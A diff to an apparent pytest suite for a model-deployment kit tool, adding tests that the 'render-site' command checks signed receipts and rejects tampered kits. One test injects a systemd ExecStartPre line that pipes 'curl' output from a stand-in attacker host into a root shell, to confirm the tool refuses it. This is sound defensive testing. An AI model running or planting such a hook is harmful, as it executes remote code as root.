@@ -12,7 +12,7 @@ from pathlib import Path
 
 import pytest
 
-from tests.conftest import GoldenKit, run_k3kit
+from tests.conftest import GoldenKit, KeyFiles, run_k3kit
 from tests.launchkit import launch, make_fake_engine
 
 GOOD = "MODEL_DIR=/srv/models/kimi\nHOST=127.0.0.1\n"
@@ -23,7 +23,9 @@ def _render(golden: GoldenKit, tmp_path: Path, site_text: str) -> tuple[int, str
     site = tmp_path / "site.env"
     site.write_text(site_text)
     out = tmp_path / "out"
-    proc = run_k3kit("render-site", golden.kit, "--site", site, "-o", out, "--json")
+    proc = run_k3kit(
+        "render-site", golden.kit, "--trust", golden.key.public, "--site", site, "-o", out, "--json"
+    )
     assert "Traceback" not in proc.stderr
     return proc.returncode, proc.stdout + proc.stderr, site
 
@@ -99,3 +101,71 @@ def test_multi_node_launch_adds_runtime_flags(golden: GoldenKit, tmp_path: Path,
     ]
     code, stderr, out = launch(kit, fake, *common, "--node-rank", "8", "--leader", "h")
     assert code == 3 and "outside 0..7" in stderr
+
+
+UNIT = "profiles/interactive/single-node-8gpu/systemd/k3kit-kimi-k3-b300x8-interactive.service"
+ROOT_HOOK = "ExecStartPre=/bin/sh -c 'curl -s http://evil.example/x | sh'\n"
+
+
+def _add_exec_start_pre(kit: Path, *, update_manifest: bool) -> None:
+    """What an attacker who can write the kit folder does: one line in the unit, before the
+    unit's own verify, and (when asked) the manifest's entry recomputed to match."""
+    from k3kit.manifest import build_manifest, manifest_bytes
+
+    unit = kit / UNIT
+    unit.write_text(unit.read_text().replace("ExecStartPre=", ROOT_HOOK + "ExecStartPre=", 1))
+    if update_manifest:
+        (kit / "MANIFEST.json").write_bytes(manifest_bytes(build_manifest(kit)))
+
+
+@pytest.mark.parametrize(
+    ("update_manifest", "code"),
+    [(True, "RECEIPT_KIT_MISMATCH"), (False, "KIT_FILE_CHANGED")],
+    ids=["manifest-entry-updated", "manifest-untouched"],
+)
+def test_render_site_refuses_a_unit_with_an_added_exec_start_pre(
+    golden: GoldenKit, tmp_path: Path, update_manifest: bool, code: str
+) -> None:
+    """The attack: an ``ExecStartPre=`` added to the kit's systemd unit would run as root before
+    the unit's own ``k3kit verify``. render-site verifies the kit against the signed receipt
+    first: nothing is written, exit 1, and the hook appears in no output."""
+    import shutil
+
+    kit = tmp_path / "kit"
+    shutil.copytree(golden.kit, kit)
+    _add_exec_start_pre(kit, update_manifest=update_manifest)
+    site = tmp_path / "site.env"
+    site.write_text(GOOD + IMAGE)
+    out = tmp_path / "out"
+    proc = run_k3kit(
+        "render-site", kit, "--trust", golden.key.public, "--site", site, "-o", out, "--json"
+    )
+    assert proc.returncode == 1, proc.stderr
+    report = json.loads(proc.stdout)
+    assert report["ok"] is False and report["output"] is None
+    assert code in {c.get("code") for c in report["checks"]} | {
+        p["code"] for c in report["checks"] for p in c.get("problems", [])
+    }, proc.stdout
+    assert "nothing was written" in proc.stderr
+    assert not out.exists()
+
+
+def test_render_site_needs_a_trusted_key_or_root(golden: GoldenKit, tmp_path: Path) -> None:
+    site = tmp_path / "site.env"
+    site.write_text(GOOD + IMAGE)
+    proc = run_k3kit("render-site", golden.kit, "--site", site, "-o", tmp_path / "out")
+    assert proc.returncode == 2 and "--trust" in proc.stderr
+    assert not (tmp_path / "out").exists()
+
+
+def test_render_site_refuses_a_kit_signed_by_another_key(
+    golden: GoldenKit, other_key: KeyFiles, tmp_path: Path
+) -> None:
+    site = tmp_path / "site.env"
+    site.write_text(GOOD + IMAGE)
+    out = tmp_path / "out"
+    proc = run_k3kit(
+        "render-site", golden.kit, "--trust", other_key.public, "--site", site, "-o", out
+    )
+    assert proc.returncode == 1 and "RECEIPT_UNTRUSTED_KEY" in proc.stderr, proc.stderr
+    assert not out.exists()
